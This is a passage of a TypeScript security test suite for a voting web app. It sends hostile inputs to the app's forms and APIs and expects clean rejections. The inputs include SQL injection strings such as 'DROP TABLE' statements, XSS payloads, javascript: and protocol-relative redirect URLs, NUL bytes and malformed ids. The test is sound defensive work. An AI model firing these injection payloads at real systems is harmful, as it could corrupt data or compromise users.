// A corpus of hostile inputs driven through the real forms and APIs of the built server: over-long
// fields, invalid UTF-8, NUL bytes, SQL metacharacters, HTML/JS payloads, duplicate and unknown
// ids, bad ids in every [id] route and id field, wrong types, huge and malformed bodies, missing
// fields and wrong methods. Each gets a clear 4xx (a search is answered, not refused: 200), never a
// 500 or a stack trace; no HTML payload comes back unescaped; and the database is the same
// afterwards. The corpus is designed so that no request should succeed; the one legitimate write
// (a CSV whose cells look like spreadsheet formulas) is made and counted on its own at the end.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { castBallot } from '../../src/lib/server/voting/casting';
import { applyLifecycle } from '../../src/lib/server/voting/sessions';
import { startApp, type RunningApp } from '../helpers/app';
import { useTestDatabase } from '../helpers/suite';
import { createUser, createVotingSession, type TestSession } from '../helpers/factory';
import {
	databaseSnapshot,
	HttpAgent,
	leakIn,
	signedInAgent,
	type DatabaseSnapshot,
	type SentRequest
} from '../helpers/security';

type Actor = 'anonymous' | 'staff' | 'delegate' | 'faaDelegate';

interface World {
	/** Open, approval, at most 2 of 5. */
	approval: TestSession;
	/** Open, for/against/abstain. */
	faa: TestSession;
	draft: TestSession;
	closed: TestSession;
	categoryId: number;
	candidateId: number;
	scrutineerId: number;
}

interface HostileCase {
	name: string;
	as: Actor;
	path: string;
	request?: SentRequest;
	/** The statuses that count as the right refusal. */
	expect: number[];
	/** Words of the message the answer must carry (in Chinese, the default language). */
	says?: string;
	/** For a 303: where it must lead. */
	location?: string;
}

// Payloads. A payload that comes back must come back escaped: none of these raw forms may appear.
const SCRIPT = '<script>alert("piaojue-xss")</script>';
const IMG = '<img src=x onerror=alert("piaojue-xss")>';
const SVG = '"><svg onload=alert("piaojue-xss")>';
const JS_URL = 'javascript:alert("piaojue-xss")';
const UNESCAPED_HTML =
	/<script>alert\("piaojue-xss"\)|<img src=x onerror|<svg onload|(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:/i;

const SQL = [
	"' OR '1'='1",
	"admin'--",
	"'; DROP TABLE ballot; --",
	'1; DELETE FROM audit_entry',
	'/* */ UNION SELECT password_hash FROM app_user --',
	"%' OR 1=1 --"
];
const MEGABYTE = 'x'.repeat(1_000_000);
const OVER_LIMIT = 'y'.repeat(3_000_000); // BODY_SIZE_LIMIT is 2M in the tests
const BAD_IDS = ['-1', '0', '1.5', 'abc', '99999999999999999999', '1e400', "1'%20OR%20'1'='1", '%3Cscript%3E', '%00'];

const enc = new TextEncoder();
const bytes = (...parts: (string | number[])[]) =>
	new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...enc.encode(part)] : part)));
const urlencoded = 'application/x-www-form-urlencoded';

/** A multipart form with one file field. */
function upload(field: string, content: Uint8Array | string, fileName = 'upload.csv'): FormData {
	const form = new FormData();
	form.append(field, new Blob([content as BlobPart], { type: 'text/csv' }), fileName);
	return form;
}

const sessionForm = (
	fields: Partial<Record<'title' | 'year' | 'ballotMethod' | 'seats' | 'thresholdBase', string>>,
	candidateIds: (number | string)[]
): [string, string][] => [
	['title', fields.title ?? 'A valid title'],
	['year', fields.year ?? '2022'],
	['ballotMethod', fields.ballotMethod ?? 'approval'],
	['seats', fields.seats ?? '1'],
	['thresholdBase', fields.thresholdBase ?? 'enrolled'],
	...candidateIds.map((id) => ['candidate', String(id)] as [string, string])
];

function corpus(w: World): HostileCase[] {
	const open = w.approval.id;
	const [c1, c2, c3] = w.approval.candidateIds.map(String) as [string, string, string];
	const faaAll = (choice = 'for') => w.faa.candidateIds.map((id) => [`choice-${id}`, choice] as [string, string]);
	const validCategory = String(w.categoryId);
	const cases: HostileCase[] = [];
	const add = (...more: HostileCase[]) => cases.push(...more);

	// ---------------------------------------------------------------- over-long fields
	add(
		{
			name: '1 MB candidate title',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: validCategory, title: MEGABYTE } },
			expect: [400],
			says: '项目名称不能超过 200 个字'
		},
		{
			name: '1 MB candidate summary',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: validCategory, title: 'Valid', summary: MEGABYTE } },
			expect: [400],
			says: '概述不能超过 2000 个字'
		},
		{
			name: '1 MB title on an existing candidate',
			as: 'staff',
			path: `/admin/candidates/${w.candidateId}?/save`,
			request: { body: { categoryId: validCategory, title: MEGABYTE } },
			expect: [400],
			says: '项目名称不能超过 200 个字'
		},
		{
			name: '1 MB category name',
			as: 'staff',
			path: '/admin/candidates/categories/new',
			request: { body: { name: MEGABYTE } },
			expect: [400],
			says: '方面名称不能超过 50 个字'
		},
		{
			name: '1 MB session title',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({ title: MEGABYTE }, [c1, c2]) },
			expect: [400],
			says: '名称不能超过 200 个字'
		},
		{
			name: '1 MB paper note',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: { body: { delegates: w.approval.delegates[2]!.username, ballots: '1', note: MEGABYTE } },
			expect: [400],
			says: '输入内容过长'
		},
		{
			name: '1.5 MB of paper ballots',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: { body: { delegates: 'x', ballots: '1 '.repeat(750_000) } },
			expect: [400],
			says: '输入内容过长'
		},
		{
			name: '1 MB delegation to enrol',
			as: 'staff',
			path: `/admin/sessions/${w.draft.id}/electorate?/enrol`,
			request: {
				body: [
					['scope', 'delegations'],
					['delegation', MEGABYTE]
				]
			},
			expect: [400]
		},
		{
			name: '1 MB login username',
			as: 'anonymous',
			path: '/login',
			request: { body: { username: MEGABYTE, password: 'x' } },
			expect: [400]
		},
		{
			name: '1 MB receipt code',
			as: 'anonymous',
			path: `/results/${w.closed.id}/receipts`,
			request: { body: { code: MEGABYTE } },
			expect: [400],
			says: '回执码格式不正确'
		},
		{
			name: '1 MB access code',
			as: 'anonymous',
			path: '/login/code?/check',
			request: { body: { code: MEGABYTE } },
			expect: [400]
		},
		{
			name: 'roster name of 300 characters',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: upload('roster', `name,delegation,delegate number\r\n${'名'.repeat(300)},一团,H001\r\n`) },
			expect: [400]
		},
		{
			name: '10,000 candidates in a session form',
			as: 'staff',
			path: '/admin/sessions/new',
			request: {
				body: sessionForm(
					{},
					Array.from({ length: 10_000 }, (_, index) => 1_000_000 + index)
				)
			},
			expect: [400]
		}
	);

	// ---------------------------------------------------------------- the evaluation form (满意度测评)
	const evaluationForm = (fields: Record<string, string>): [string, string][] =>
		Object.entries({
			title: 'A valid evaluation',
			year: '2022',
			allowAbstain: '',
			opensAt: '',
			closesAt: '',
			...fields
		});
	add(
		{
			name: '1 MB evaluation title',
			as: 'staff',
			path: '/admin/evaluations/new',
			request: { body: evaluationForm({ title: MEGABYTE }) },
			expect: [400],
			says: '名称不能超过 200 个字'
		},
		{
			name: 'NUL in an evaluation title',
			as: 'staff',
			path: '/admin/evaluations/new',
			request: { body: evaluationForm({ title: 'a\u0000b' }) },
			expect: [400]
		},
		{
			name: 'SQL as the evaluated year',
			as: 'staff',
			path: '/admin/evaluations/new',
			request: { body: evaluationForm({ year: "2022' OR '1'='1" }) },
			expect: [400],
			says: '请填写 2000 到 2100 之间的年度'
		},
		{
			name: 'script in an evaluation title (a year without projects)',
			as: 'staff',
			path: '/admin/evaluations/new',
			request: { body: evaluationForm({ title: SCRIPT, year: '2099' }) },
			expect: [400],
			says: '该年度还没有民生实事项目'
		},
		{
			name: 'an abstain option that is neither on nor off',
			as: 'staff',
			path: '/admin/evaluations/new',
			request: { body: evaluationForm({ allowAbstain: 'maybe' }) },
			expect: [400]
		},
		{
			name: 'an evaluation closing before it opens',
			as: 'staff',
			path: '/admin/evaluations/new',
			request: { body: evaluationForm({ opensAt: '2022-04-11T10:00', closesAt: '2022-04-11T09:00' }) },
			expect: [400],
			says: '结束时间须晚于开始时间'
		},
		{
			name: 'an evaluation opening on the 31st of February',
			as: 'staff',
			path: '/admin/evaluations/new',
			request: { body: evaluationForm({ opensAt: '2022-02-31T10:00' }) },
			expect: [400],
			says: '时间格式不正确'
		}
	);

	// ---------------------------------------------------------------- invalid UTF-8
	add(
		{
			name: 'raw invalid UTF-8 bytes in a form field',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: bytes('categoryId=&title=', [0xff, 0xfe, 0xc3, 0x28]), contentType: urlencoded },
			expect: [400],
			says: '请选择所属方面'
		},
		{
			name: 'percent-encoded invalid UTF-8',
			as: 'staff',
			path: '/admin/sessions/new',
			request: {
				body: `title=%FF%FE%C0%AF&year=2022&ballotMethod=approval&seats=0&thresholdBase=enrolled&candidate=${c1}`,
				contentType: urlencoded
			},
			expect: [400]
		},
		{
			name: 'overlong UTF-8 encoding of "/" in a receipt code',
			as: 'anonymous',
			path: `/results/${w.closed.id}/receipts`,
			request: { body: bytes('code=', [0xc0, 0xaf, 0xe0, 0x80, 0xaf]), contentType: urlencoded },
			expect: [400]
		},
		{
			name: 'invalid UTF-8 in a login username',
			as: 'anonymous',
			path: '/login',
			request: { body: bytes('username=', [0xed, 0xa0, 0x80], '&password=x'), contentType: urlencoded },
			expect: [400]
		},
		{
			name: 'catalog CSV with invalid UTF-8 (GBK)',
			as: 'staff',
			path: '/admin/candidates/import',
			request: { body: upload('file', bytes('category,title\r\n', [0xc3, 0xf1, 0xc9, 0xfa], ',x\r\n')) },
			expect: [400],
			says: '文件不是 UTF-8 编码'
		},
		{
			name: 'catalog CSV in UTF-16 with a byte order mark',
			as: 'staff',
			path: '/admin/candidates/import',
			request: { body: upload('file', bytes([0xff, 0xfe, 0x63, 0x00, 0x2c, 0x00, 0x74, 0x00])) },
			expect: [400],
			says: '文件不是 UTF-8 编码'
		},
		{
			name: 'roster CSV with invalid UTF-8',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: upload('roster', bytes('name,delegation,delegate number\r\n', [0xd5, 0xc5], ',x,N1\r\n')) },
			expect: [400]
		},
		{
			name: 'roster CSV in UTF-16 without a byte order mark',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: upload('roster', bytes([0x6e, 0x00, 0x61, 0x00, 0x2c, 0x00, 0x64, 0x00])) },
			expect: [400]
		}
	);

	// ---------------------------------------------------------------- NUL bytes
	add(
		{
			name: 'NUL in a candidate title',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: validCategory, title: 'a\u0000b' } },
			expect: [400]
		},
		{
			name: 'NUL in a candidate summary',
			as: 'staff',
			path: `/admin/candidates/${w.candidateId}?/save`,
			request: { body: { categoryId: validCategory, title: 'Valid', summary: '\u0000' } },
			expect: [400]
		},
		{
			name: 'NUL in a category name',
			as: 'staff',
			path: '/admin/candidates/categories/new',
			request: { body: { name: 'x\u0000' } },
			expect: [400]
		},
		{
			name: 'NUL in a session title',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({ title: 'a\u0000b' }, [c1, c2]) },
			expect: [400]
		},
		{
			name: 'NUL in a paper note',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: { body: { delegates: 'x', ballots: '1', note: '\u0000' } },
			expect: [400]
		},
		{
			name: 'NUL in a delegation to enrol',
			as: 'staff',
			path: `/admin/sessions/${w.draft.id}/electorate?/enrol`,
			request: {
				body: [
					['scope', 'delegations'],
					['delegation', 'a\u0000']
				]
			},
			expect: [400]
		},
		{
			name: 'NUL in a receipt code',
			as: 'anonymous',
			path: `/results/${w.closed.id}/receipts`,
			request: { body: { code: 'AAAA-BBBB-CCCC-DDDD-EEEE-FFFF-G\u0000' } },
			expect: [400]
		},
		{
			name: 'NUL in a ballot candidate id',
			as: 'delegate',
			path: `/vote/${open}?/review`,
			request: { body: [['candidate', `${c1}\u0000`]] },
			expect: [400]
		},
		{
			name: 'NUL in a field name',
			as: 'staff',
			path: '/admin/candidates/categories/new',
			request: {
				body: [
					['name\u0000', 'x'],
					['name', 'Valid']
				]
			},
			expect: [400]
		},
		{
			name: 'NUL in a login username',
			as: 'anonymous',
			path: '/login',
			request: { body: { username: 'admin\u0000', password: 'x' } },
			expect: [400]
		},
		{
			name: 'NUL in an access code',
			as: 'anonymous',
			path: '/login/code?/check',
			request: { body: { code: 'ABCD\u0000' } },
			expect: [400]
		},
		{
			name: 'NUL in the language form',
			as: 'anonymous',
			path: '/language',
			request: { body: { locale: 'en\u0000', redirectTo: '/' } },
			expect: [400]
		},
		{
			name: 'NUL in a catalog CSV cell',
			as: 'staff',
			path: '/admin/candidates/import',
			request: { body: upload('file', 'category,title\r\nc,a\u0000b\r\n') },
			expect: [400],
			says: '文件不是 UTF-8 编码'
		},
		{
			name: 'NUL in an uploaded file name',
			as: 'staff',
			path: '/admin/candidates/import',
			request: {
				body: '--b0undary\r\nContent-Disposition: form-data; name="file"; filename="a\u0000.csv"\r\nContent-Type: text/csv\r\n\r\ncategory,title\r\nNUL,name\r\n--b0undary--\r\n',
				contentType: 'multipart/form-data; boundary=b0undary'
			},
			expect: [400]
		},
		{
			name: 'NUL in a roster CSV cell',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: upload('roster', 'name,delegation,delegate number\r\na\u0000b,d,N1\r\n') },
			expect: [400]
		},
		// A search that cannot be stored or matched is no search: the whole list, not an error.
		{ name: 'NUL in the roster search box', as: 'staff', path: '/admin/delegates?q=%00', expect: [200] },
		{
			name: 'NUL in the electorate search box',
			as: 'staff',
			path: `/admin/sessions/${open}/electorate?q=a%00b`,
			expect: [200]
		},
		{
			name: 'NUL in the credentials search box',
			as: 'staff',
			path: `/admin/sessions/${open}/credentials?q=%00`,
			expect: [200]
		},
		{ name: 'NUL in the proposals search box', as: 'anonymous', path: '/proposals?q=%00', expect: [200] },
		{ name: 'NUL in the proposals API', as: 'anonymous', path: '/api/proposals?q=a%00&district=%00', expect: [200] },
		{
			name: 'NUL in the audit filter',
			as: 'staff',
			path: '/admin/audit?action=%00&actor=%00',
			expect: [200],
			says: '操作名称无效'
		}
	);

	// ---------------------------------------------------------------- SQL metacharacters
	for (const [index, injection] of SQL.entries()) {
		add(
			{
				name: `SQL in a login username (${index + 1})`,
				as: 'anonymous',
				path: '/login',
				request: { body: { username: injection.slice(0, 64), password: injection } },
				expect: [400, 429]
			},
			{
				name: `SQL in the roster search box (${index + 1})`,
				as: 'staff',
				path: `/admin/delegates?q=${encodeURIComponent(injection)}`,
				expect: [200]
			}
		);
	}
	add(
		{
			name: 'SQL in the electorate search box',
			as: 'staff',
			path: `/admin/sessions/${open}/electorate?q=${encodeURIComponent("%' OR 1=1 --")}`,
			expect: [200]
		},
		{
			name: 'SQL in the audit filter',
			as: 'staff',
			path: `/admin/audit?actor=${encodeURIComponent('1 OR 1=1')}&session=${encodeURIComponent('1; DROP TABLE audit_entry')}`,
			expect: [200],
			says: '操作人无效'
		},
		{
			name: 'SQL in a candidate title (no category)',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: '', title: "'); DROP TABLE candidate; --" } },
			expect: [400]
		},
		{
			name: 'SQL in a session title (no candidates)',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({ title: "x'; UPDATE voting_session SET status='published'; --" }, []) },
			expect: [400]
		},
		{
			name: 'SQL in a ballot candidate id',
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: { body: [['candidate', `${c1} OR 1=1`]] },
			expect: [400]
		},
		{
			name: 'SQL in a receipt code',
			as: 'anonymous',
			path: `/results/${w.closed.id}/receipts`,
			request: { body: { code: "' OR ''='" } },
			expect: [400]
		},
		{
			name: 'SQL in paper-ballot delegate references',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: {
				body: [
					['delegates', "'; DELETE FROM ballot_mark; --"],
					['ballots', '1'],
					['scrutineer', String(w.scrutineerId)]
				]
			},
			expect: [400]
		},
		{
			name: 'SQL in a roster CSV (bad delegate number)',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: {
				body: upload('roster', "name,delegation,delegate number\r\nRobert'); DROP TABLE app_user;--,一团,N 1;\r\n")
			},
			expect: [400]
		},
		{
			name: 'SQL in an access code',
			as: 'anonymous',
			path: '/login/code?/check',
			request: { body: { code: "' OR 1=1 --" } },
			expect: [400, 429]
		},
		{
			name: 'SQL in a category filter',
			as: 'anonymous',
			path: `/projects?category=${encodeURIComponent("1' OR '1'='1")}`,
			expect: [200]
		},
		{
			name: 'SQL in the proposals search box',
			as: 'anonymous',
			path: `/proposals?q=${encodeURIComponent("%' OR 1=1 --")}&category=${encodeURIComponent("1'")}`,
			expect: [200]
		},
		{
			name: 'SQL in the proposals API',
			as: 'anonymous',
			path: `/api/proposals?q=${encodeURIComponent("'; DROP TABLE ballot; --")}&page=${encodeURIComponent('1 OR 1=1')}`,
			expect: [200]
		}
	);

	// ---------------------------------------------------------------- HTML / JS payloads in every free-text field
	add(
		{
			name: 'script in a candidate title',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: '', title: SCRIPT, summary: IMG } },
			expect: [400]
		},
		{
			name: 'onerror in an existing candidate',
			as: 'staff',
			path: `/admin/candidates/${w.candidateId}?/save`,
			request: { body: { categoryId: 'none', title: IMG, summary: SVG, leadDepartment: SCRIPT, targets: JS_URL } },
			expect: [400]
		},
		{
			name: 'script in a category name (too long)',
			as: 'staff',
			path: '/admin/candidates/categories/new',
			request: { body: { name: SCRIPT + SVG } },
			expect: [400]
		},
		{
			name: 'script in an existing category (bad position)',
			as: 'staff',
			path: `/admin/candidates/categories/${w.categoryId}?/save`,
			request: { body: { name: IMG, position: '-3' } },
			expect: [400]
		},
		{
			name: 'script in a session title (seats 0)',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({ title: SCRIPT, seats: '0' }, [c1, c2]) },
			expect: [400]
		},
		{
			name: 'svg in an edited session title (bad year)',
			as: 'staff',
			path: `/admin/sessions/${w.draft.id}/edit`,
			request: { body: sessionForm({ title: SVG, year: '1900' }, w.draft.candidateIds) },
			expect: [400]
		},
		{
			name: 'script in a paper note and ballots',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: { body: { delegates: IMG, ballots: SCRIPT, note: SCRIPT } },
			expect: [400]
		},
		{
			name: 'script in a roster CSV (bad delegate number)',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: {
				body: upload(
					'roster',
					`name,delegation,delegate number\r\n${SCRIPT},${IMG.replace(/,/g, '')},<b>\r\n`,
					`${SVG}.csv`
				)
			},
			expect: [400]
		},
		{
			name: 'script in a catalog CSV (no category)',
			as: 'staff',
			path: '/admin/candidates/import',
			request: { body: upload('file', `category,title\r\n,${SCRIPT}\r\n`, `${IMG}.csv`) },
			expect: [400]
		},
		{
			name: 'script in a login username',
			as: 'anonymous',
			path: '/login',
			request: { body: { username: SCRIPT, password: 'x' } },
			expect: [400, 429]
		},
		{
			name: 'svg in an access code',
			as: 'anonymous',
			path: '/login/code?/check',
			request: { body: { code: SVG } },
			expect: [400]
		},
		{
			name: 'script in an access code link',
			as: 'anonymous',
			path: `/login/code?code=${encodeURIComponent(SCRIPT)}`,
			expect: [200]
		},
		{
			name: 'script in a receipt code',
			as: 'anonymous',
			path: `/results/${w.closed.id}/receipts`,
			request: { body: { code: SCRIPT } },
			expect: [400],
			says: '回执码格式不正确'
		},
		{
			name: 'script in the roster search box',
			as: 'staff',
			path: `/admin/delegates?q=${encodeURIComponent(SCRIPT)}`,
			expect: [200]
		},
		{
			name: 'svg in the electorate search box',
			as: 'staff',
			path: `/admin/sessions/${open}/electorate?q=${encodeURIComponent(SVG)}`,
			expect: [200]
		},
		{
			name: 'script in the proposals search box',
			as: 'anonymous',
			path: `/proposals?q=${encodeURIComponent(SCRIPT)}&district=${encodeURIComponent(IMG)}`,
			expect: [200]
		},
		{
			name: 'img in the credentials search box',
			as: 'staff',
			path: `/admin/sessions/${open}/credentials?q=${encodeURIComponent(IMG)}`,
			expect: [200]
		},
		{
			name: 'script in the audit filter',
			as: 'staff',
			path: `/admin/audit?action=${encodeURIComponent(SCRIPT)}&from=${encodeURIComponent(IMG)}`,
			expect: [200],
			says: '请输入有效日期'
		},
		{
			name: 'script as the projector theme',
			as: 'anonymous',
			path: `/screen/${open}?theme=${encodeURIComponent(SCRIPT)}`,
			expect: [200]
		},
		{
			name: 'javascript: URL as the sign-in return address',
			as: 'anonymous',
			path: `/login?redirectTo=${encodeURIComponent(JS_URL)}`,
			request: { body: { username: 'nobody_here', password: 'wrong' } },
			expect: [400, 429]
		},
		{
			name: 'javascript: URL as the language return address',
			as: 'anonymous',
			path: '/language',
			request: { body: { locale: 'zh-CN', redirectTo: JS_URL } },
			expect: [303],
			location: '/'
		},
		{
			name: 'protocol-relative return address',
			as: 'anonymous',
			path: '/language',
			request: { body: { locale: 'zh-CN', redirectTo: '//evil.example/' } },
			expect: [303],
			location: '/'
		},
		{
			name: 'javascript: URL in a candidate target (no category)',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: '', title: 'Valid', targets: `${JS_URL}\n${SCRIPT}` } },
			expect: [400]
		}
	);

	// ---------------------------------------------------------------- the ballot: duplicate and unknown candidates, choice fields
	add(
		{
			name: 'the same candidate twice (review)',
			as: 'delegate',
			path: `/vote/${open}?/review`,
			request: {
				body: [
					['candidate', c1],
					['candidate', c1]
				]
			},
			expect: [400],
			says: '同一个候选项目只能选择一次'
		},
		{
			name: 'the same candidate twice (cast)',
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: {
				body: [
					['candidate', c1],
					['candidate', c1]
				]
			},
			expect: [400],
			says: '同一个候选项目只能选择一次'
		},
		{
			name: 'an unknown candidate',
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: { body: [['candidate', '987654']] },
			expect: [400],
			says: '不属于本次票决'
		},
		{
			name: "another session's candidate",
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: { body: [['candidate', String(w.faa.candidateIds[0])]] },
			expect: [400],
			says: '不属于本次票决'
		},
		{
			name: 'more candidates than seats',
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: {
				body: [
					['candidate', c1],
					['candidate', c2],
					['candidate', c3]
				]
			},
			expect: [400],
			says: '超过了最多 2 项的限制'
		},
		{
			name: 'a candidate field sent as a file',
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: { body: upload('candidate', c1) },
			expect: [400]
		},
		{
			name: 'for/against/abstain: an unknown choice-<id>',
			as: 'faaDelegate',
			path: `/vote/${w.faa.id}?/cast`,
			request: { body: [...faaAll(), ['choice-987654', 'for']] },
			expect: [400]
		},
		{
			name: 'for/against/abstain: a choice-<id> of another session',
			as: 'faaDelegate',
			path: `/vote/${w.faa.id}?/cast`,
			request: { body: [...faaAll(), [`choice-${c1}`, 'against']] },
			expect: [400]
		},
		{
			name: 'for/against/abstain: the same choice-<id> twice',
			as: 'faaDelegate',
			path: `/vote/${w.faa.id}?/cast`,
			request: { body: [...faaAll('abstain'), [`choice-${w.faa.candidateIds[0]}`, 'for']] },
			expect: [400]
		},
		{
			name: 'for/against/abstain: an unknown choice value',
			as: 'faaDelegate',
			path: `/vote/${w.faa.id}?/cast`,
			request: { body: faaAll('maybe') },
			expect: [400],
			says: '选票内容无效'
		},
		{
			name: 'for/against/abstain: a choice missing',
			as: 'faaDelegate',
			path: `/vote/${w.faa.id}?/cast`,
			request: { body: faaAll().slice(1) },
			expect: [400],
			says: '未作选择'
		},
		{
			name: 'for/against/abstain: a huge choice-<id>',
			as: 'faaDelegate',
			path: `/vote/${w.faa.id}?/cast`,
			request: { body: [...faaAll(), ['choice-99999999999999999999999', 'for']] },
			expect: [400]
		},
		{
			name: 'for/against/abstain: choice-<negative> and choice-<float> keys only',
			as: 'faaDelegate',
			path: `/vote/${w.faa.id}?/cast`,
			request: {
				body: [
					['choice--1', 'for'],
					['choice-1.5', 'for']
				]
			},
			expect: [400]
		},
		{
			name: 'for/against/abstain: more "for" than seats',
			as: 'faaDelegate',
			path: `/vote/${w.faa.id}?/cast`,
			request: { body: faaAll('for') },
			expect: [400]
		}
	);
	for (const bad of ['-1', '0', '1.5', 'abc', '99999999999999999999', '', '1,2']) {
		add({
			name: `a ballot candidate id "${bad}"`,
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: { body: [['candidate', bad]] },
			expect: [400]
		});
	}

	// ---------------------------------------------------------------- bad ids in every [id] route
	const idRoutes: [Actor, (id: string) => string][] = [
		['anonymous', (id) => `/projects/${id}`],
		['anonymous', (id) => `/api/sessions/${id}`],
		['anonymous', (id) => `/api/sessions/${id}/receipts`],
		['anonymous', (id) => `/api/sessions/${id}/results`],
		['anonymous', (id) => `/results/${id}`],
		['anonymous', (id) => `/results/${id}/announcement`],
		['anonymous', (id) => `/results/${id}/receipts`],
		['anonymous', (id) => `/results/${id}/export.csv`],
		['anonymous', (id) => `/screen/${id}`],
		['anonymous', (id) => `/screen/${id}/events`],
		['delegate', (id) => `/vote/${id}`],
		['staff', (id) => `/admin/candidates/${id}`],
		['staff', (id) => `/admin/candidates/categories/${id}`],
		['staff', (id) => `/admin/sessions/${id}`],
		['staff', (id) => `/admin/sessions/${id}/edit`],
		['staff', (id) => `/admin/sessions/${id}/electorate`],
		['staff', (id) => `/admin/sessions/${id}/credentials`],
		['staff', (id) => `/admin/sessions/${id}/paper`],
		['staff', (id) => `/admin/sessions/${id}/export.json`],
		['anonymous', (id) => `/proposals/${id}`],
		['anonymous', (id) => `/selection/${id}`],
		['anonymous', (id) => `/api/selection/${id}/results`],
		['staff', (id) => `/admin/proposals/${id}`],
		['staff', (id) => `/admin/campaigns/${id}`],
		['staff', (id) => `/admin/rounds/${id}`]
	];
	for (const [as, route] of idRoutes) {
		for (const bad of BAD_IDS)
			add({ name: `GET ${route(bad)}`, as, path: route(bad), expect: bad === '%00' ? [400, 404] : [404] });
	}
	// … and in the actions of [id] pages.
	for (const bad of ['-1', '1.5', '99999999999999999999']) {
		add(
			{
				name: `cast into session ${bad}`,
				as: 'delegate',
				path: `/vote/${bad}?/cast`,
				request: { body: [['candidate', c1]] },
				expect: [404]
			},
			{
				name: `close session ${bad}`,
				as: 'staff',
				path: `/admin/sessions/${bad}?/close`,
				request: { body: { confirm: 'yes' } },
				expect: [404]
			},
			{
				name: `save candidate ${bad}`,
				as: 'staff',
				path: `/admin/candidates/${bad}?/save`,
				request: { body: { categoryId: validCategory, title: 'Valid' } },
				expect: [404]
			},
			{
				name: `delete category ${bad}`,
				as: 'staff',
				path: `/admin/candidates/categories/${bad}?/delete`,
				request: { body: { confirm: 'yes' } },
				expect: [404]
			},
			{
				name: `paper batch into session ${bad}`,
				as: 'staff',
				path: `/admin/sessions/${bad}/paper`,
				request: { body: { delegates: 'x', ballots: '1' } },
				expect: [404]
			},
			{
				name: `check a receipt of session ${bad}`,
				as: 'anonymous',
				path: `/results/${bad}/receipts`,
				request: { body: { code: 'AAAA-BBBB-CCCC-DDDD-EEEE-FFFF-GG' } },
				expect: [404]
			}
		);
	}

	// ---------------------------------------------------------------- bad ids in id fields
	for (const bad of ['-1', '1.5', 'abc', '99999999999999999999', '']) {
		add(
			{
				name: `disable delegate "${bad}"`,
				as: 'staff',
				path: '/admin/delegates?/disable',
				request: { body: { delegateId: bad } },
				expect: [400]
			},
			{
				name: `remove electorate member "${bad}"`,
				as: 'staff',
				path: `/admin/sessions/${w.draft.id}/electorate?/remove`,
				request: { body: { delegateId: bad } },
				expect: [400]
			},
			{
				name: `presence of "${bad}"`,
				as: 'staff',
				path: `/admin/sessions/${open}/electorate?/presence`,
				request: { body: { delegateId: bad, present: 'yes' } },
				expect: [400]
			},
			{
				name: `issue a code to "${bad}"`,
				as: 'staff',
				path: `/admin/sessions/${open}/credentials?/issue`,
				request: { body: { scope: 'one', delegateId: bad } },
				expect: [400]
			},
			{
				name: `move candidate "${bad}"`,
				as: 'staff',
				path: '/admin/candidates?/moveCandidate',
				request: { body: { id: bad, direction: 'up' } },
				expect: [400]
			},
			{
				name: `candidate in category "${bad}"`,
				as: 'staff',
				path: '/admin/candidates/new',
				request: { body: { categoryId: bad, title: 'Valid title' } },
				expect: [400],
				says: '请选择所属方面'
			},
			{
				name: `paper scrutineer "${bad}"`,
				as: 'staff',
				path: `/admin/sessions/${open}/paper`,
				request: {
					body: [
						['delegates', w.approval.delegates[2]!.username],
						['ballots', '1'],
						['scrutineer', bad]
					]
				},
				expect: [400]
			},
			{
				name: `session candidate "${bad}"`,
				as: 'staff',
				path: '/admin/sessions/new',
				request: { body: sessionForm({}, [c1, bad]) },
				expect: [400]
			}
		);
	}
	add(
		{
			name: 'disable an unknown delegate',
			as: 'staff',
			path: '/admin/delegates?/disable',
			request: { body: { delegateId: '987654' } },
			expect: [404]
		},
		{
			name: 'move an unknown category',
			as: 'staff',
			path: '/admin/candidates?/moveCategory',
			request: { body: { id: '987654', direction: 'down' } },
			expect: [404]
		},
		{
			name: 'a candidate in an unknown category',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: '987654', title: 'Valid title' } },
			expect: [409]
		},
		{
			name: 'a session with an unknown candidate',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({}, [c1, '987654']) },
			expect: [400],
			says: '找不到该候选项目'
		},
		{
			name: 'a session with the same candidate twice',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({}, [c1, c1]) },
			expect: [400],
			says: '同一个候选项目只能选择一次'
		},
		{
			name: 'a draft edited to an unknown candidate',
			as: 'staff',
			path: `/admin/sessions/${w.draft.id}/edit`,
			request: { body: sessionForm({}, [...w.draft.candidateIds, 987654]) },
			expect: [400],
			says: '找不到该候选项目'
		},
		{
			name: 'a paper scrutineer who is not one',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: {
				body: [
